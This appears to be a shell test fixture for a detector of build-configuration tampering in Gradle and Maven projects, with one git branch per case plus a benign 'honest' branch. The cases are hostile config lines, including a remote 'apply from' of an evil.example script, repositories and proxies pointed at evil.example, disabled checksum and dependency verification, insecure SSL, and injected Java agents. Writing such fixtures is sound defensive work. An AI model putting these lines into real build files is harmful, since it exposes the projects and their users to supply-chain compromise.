# SPDX-License-Identifier: Apache-2.0
# Where Gradle and Maven fetch from, what checks that, and what code they load first: scripts and their settings. Honest: memory, a debugger,
# a repository of a known host, one that artifacts are published to, an address in a comment.
repo
mkdir .mvn gradle
cat >build.gradle <<'END'
plugins { id 'java' }
repositories {
    mavenCentral()
    maven { url 'https://repo.example.org/m2' }
}
END
echo 'pluginManagement { repositories { gradlePluginPortal() } }' | put settings.gradle.kts
printf 'org.gradle.jvmargs=-Xmx2g\n' | put gradle.properties
printf 'toolchainUrl.LINUX.X86_64=https\\://jdk.example.org/21\n' | put gradle/gradle-daemon-jvm.properties
printf -- '-B\n-Daether.trustedChecksumsSource.summaryFile=true\n' | put .mvn/maven.config
printf -- '-Xmx1g\n' | put .mvn/jvm.config
echo '<settings><mirrors><mirror><id>m</id><url>https://repo.example.org/m2</url></mirror></mirrors></settings>' | put .mvn/settings.xml
echo '<project><repositories><repository><id>r</id><url>https://repo.example.org/m2</url><releases><checksumPolicy>fail</checksumPolicy></releases></repository></repositories></project>' | put pom.xml
commit start
change() { git checkout -q -b "$1" main; }
change repository && sed -i 's,repo.example,evil.example,' build.gradle && commit x
change plugins && sed -i 's,gradlePlugin,maven(url = uri("https://evil.example/m2")); gradlePlugin,' settings.gradle.kts && commit x
change insecure && sed -i "s,url 'https,allowInsecureProtocol = true; url 'http," build.gradle && commit x
change script && sed -i '1i apply from: "https://evil.example/x.gradle"' build.gradle && commit x
change unverified && echo 'configurations.all { resolutionStrategy.disableDependencyVerification() }' >>build.gradle && commit x
change initial && echo 'allprojects { repositories { ivy { url "https://evil.example" } } }' | put ci/init.gradle && commit x
change lenient && echo 'org.gradle.dependency.verification=lenient' >>gradle.properties && commit x
change proxy && echo 'systemProp.https.proxyHost=evil.example' >>gradle.properties && commit x
change certificates && echo 'systemProp.javax.net.ssl.trustStore=ci/store.jks' >>gradle.properties && commit x
change agent && sed -i 's,-Xmx2g,-Xmx2g "-javaagent:ci/agent.jar",' gradle.properties && commit x
change jdk && sed -i 's,jdk.example,evil.example,' gradle/gradle-daemon-jvm.properties && commit x
change maven-settings && printf -- '-s\nci/other.xml\n' >>.mvn/maven.config && commit x
change maven-unchecked && printf -- '-B\n' | put .mvn/maven.config && commit x
change maven-lax && printf -- '--lax-checksums\n-Dmaven.wagon.http.ssl.insecure=true\n' >>.mvn/maven.config && commit x
change maven-gone && git rm -q .mvn/maven.config && commit x
change maven-folder && printf -- '-Dmaven.repo.local=lib\n' >>.mvn/maven.config && commit x
change maven-agent && printf -- '-javaagent:ci/agent.jar\n' >>.mvn/jvm.config && commit x
change maven-proxy && sed -i 's,<mirrors>,<proxies><proxy><host>evil.example</host></proxy></proxies><mirrors>,' .mvn/settings.xml && commit x
change maven-policy && sed -i 's,fail,ignore,' pom.xml && commit x
change honest
cat >>build.gradle <<'END'
// https://evil.example
publishing { repositories { maven { url 'https://upload.example' } } }
subprojects { repositories { google(); maven { url = uri("https://repo.example.org/other") } } }
configure<PublishingExtension> { publications { }
    repositories { maven { url = uri("https://upload.example") } } }
description = "see https://pages.example"
END
printf 'org.gradle.jvmargs=-Xmx4g -agentlib:jdwp=transport=dt_socket\norg.gradle.caching=true\n' | put gradle.properties
printf -- '-s\n.mvn/settings.xml\n-T4\n' >>.mvn/maven.config
printf -- '-Xmx4g -Dfile.encoding=UTF-8\n' | put .mvn/jvm.config
commit honest
